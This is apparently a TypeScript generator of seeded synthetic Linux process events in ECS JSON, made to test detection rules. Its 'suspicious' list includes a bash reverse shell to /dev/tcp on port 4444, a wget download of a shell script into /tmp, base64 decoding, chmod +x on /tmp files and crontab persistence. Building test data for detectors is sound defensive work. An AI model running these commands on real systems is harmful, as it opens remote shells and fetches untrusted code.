// Process events such as a busy Linux server has them, as the lines of JSON that a sensor writes. Always the same.

/** Lines of ECS process events: few programs, many command lines, two in a hundred of them suspicious. */
export function processEventLines(count: number): string[] {
  const random = generator(1);
  const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  return Array.from({ length: count }, (_, index) => {
    const [executable, ...templates] = pick(random() < 0.02 ? suspicious : programs);
    const command = pick(templates)
      .replaceAll('#', () => String(Math.floor(random() * 1e6)))
      .replaceAll('@', () => pick(words));
    return JSON.stringify(processEvent(index, executable, command, pick(parents), pick(users)));
  });
}

type Program = readonly [executable: string, ...commands: string[]];

const programs: readonly Program[] = [
  ['/usr/bin/bash', 'bash -c /opt/@/bin/@.sh --run #', '/bin/bash /usr/local/bin/@ #', 'bash -l'],
  ['/usr/bin/dash', 'sh -c /usr/lib/@/@ --id #', '/bin/sh -c "run-parts /etc/cron.hourly"'],
  ['/usr/bin/python3.11', 'python3 /srv/@/manage.py @ --batch #', 'python3 -m @.worker --queue @ --pid #'],
  ['/usr/bin/perl', 'perl /usr/share/@/@.pl #'],
  ['/usr/bin/grep', 'grep -r @ /var/log/@', 'grep -q @ /tmp/@.#'],
  ['/usr/bin/sed', 'sed -i s/@/@/ /etc/@/@.conf'],
  ['/usr/bin/awk', 'awk {print$#} /proc/#/stat'],
  ['/usr/bin/cat', 'cat /proc/#/status', 'cat /var/lib/@/@'],
  ['/usr/bin/ls', 'ls -la /home/@', 'ls /var/spool/@'],
  ['/usr/bin/find', 'find /srv/@ -name *.@ -mtime +#'],
  [
    '/usr/bin/curl',
    'curl -fsS https://@.example.org/health?id=#',
    'curl -o /var/cache/@.json https://api.example.org/@',
  ],
  ['/usr/bin/git', 'git fetch origin', 'git -C /srv/@ rev-parse HEAD'],
  ['/usr/bin/ssh', 'ssh deploy@host# systemctl status @'],
  ['/usr/sbin/sshd', 'sshd: @ [priv]', '/usr/sbin/sshd -D -R'],
  ['/usr/bin/systemctl', 'systemctl is-active @.service', 'systemctl show -p MainPID @'],
  ['/usr/bin/docker', 'docker inspect @-#', 'docker ps --format {{.Names}}'],
  ['/usr/sbin/cron', '/usr/sbin/cron -f'],
  ['/usr/bin/node', 'node /srv/@/dist/@.js --port #', 'node -e process.exit(0)'],
  [
    '/usr/lib/jvm/java-17/bin/java',
    'java -Xmx512m -jar /opt/@/@.jar --spring.profiles.active=@ --server.port=#',
  ],
  ['/usr/bin/psql', 'psql -h db# -c select_@_from_@'],
  ['/usr/sbin/logrotate', '/usr/sbin/logrotate /etc/logrotate.conf'],
  ['/usr/bin/tar', 'tar -czf /var/backups/@-#.tar.gz /srv/@'],
  ['/usr/bin/rsync', 'rsync -a /srv/@/ backup#:/srv/@/'],
  ['/usr/bin/id', 'id -u @'],
  ['/usr/bin/stat', 'stat -c %Y /run/@.pid'],
];

/** What rules look for is seldom seen. */
const suspicious: readonly Program[] = [
  ['/usr/bin/crontab', 'crontab -l', 'crontab /tmp/@'],
  ['/usr/bin/at', 'at now + # minutes'],
  ['/usr/bin/base64', 'base64 -d /tmp/@.b64'],
  ['/usr/bin/chmod', 'chmod +x /tmp/@-#', 'chmod 777 /etc/@.conf'],
  ['/usr/bin/bash', 'bash -i >& /dev/tcp/10.0.0.#/4444 0>&1'],
  ['/usr/bin/wget', 'wget http://198.51.100.7/@.sh -O /tmp/@.sh'],
];

const words =
  'alpha billing cache deploy edge feed gateway health ingest jobs kiosk ledger mailer node orders parser queue reports search tokens updates views worker yard zone'.split(
    ' ',
  );

const parents = [
  ['/usr/lib/systemd/systemd', '/sbin/init'],
  ['/usr/sbin/cron', '/usr/sbin/cron -f'],
  ['/usr/bin/bash', '-bash'],
  ['/usr/sbin/sshd', 'sshd: deploy [priv]'],
  ['/usr/bin/containerd-shim-runc-v2', '/usr/bin/containerd-shim-runc-v2 -namespace moby -id 4f1c'],
  ['/usr/bin/python3.11', 'python3 /srv/jobs/manage.py worker'],
] as const;

const users = [
  ['0', 'root'],
  ['1000', 'alice'],
  ['33', 'www-data'],
  ['1001', 'deploy'],
] as const;

function processEvent(
  index: number,
  executable: string,
  command: string,
  [parentExecutable, parentCommand]: readonly [string, string],
  [userId, userName]: readonly [string, string],
): object {
  const args = command.split(' ');
  const at = new Date(Date.UTC(2025, 0, 1) + index * 7).toISOString();
  return {
    '@timestamp': at,
    event: {
      id: `ebpf-${index}`,
      kind: 'event',
      category: ['process'],
      type: ['start'],
      action: 'exec',
      outcome: 'success',
      dataset: 'atomclock.ebpf',
      sequence: index,
    },
    process: {
      entity_id: `k${(index * 2_654_435_761) % 4_294_967_296}`,
      pid: 1000 + (index % 30_000),
      name: executable.slice(executable.lastIndexOf('/') + 1),
      executable,
      args,
      args_count: args.length,
      command_line: command,
      working_directory: '/',
      start: at,
      user: { id: userId, name: userName },
      group: { id: userId, name: userName },
      parent: {
        entity_id: `p${index % 977}`,
        pid: index % 977,
        name: parentExecutable.slice(parentExecutable.lastIndexOf('/') + 1),
        executable: parentExecutable,
        command_line: parentCommand,
        args: parentCommand.split(' '),
      },
    },
    user: { id: userId, name: userName },
    host: { os: { type: 'linux' }, name: 'web-01' },
    container: { id: '4f1c2d3e4a5b6c7d' },
    atomclock: { sensor: 'ebpf', sequence: index, host_pid: 40_000 + index },
  };
}

/** Numbers from 0 to 1 that look random and are always the same (mulberry32). */
function generator(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
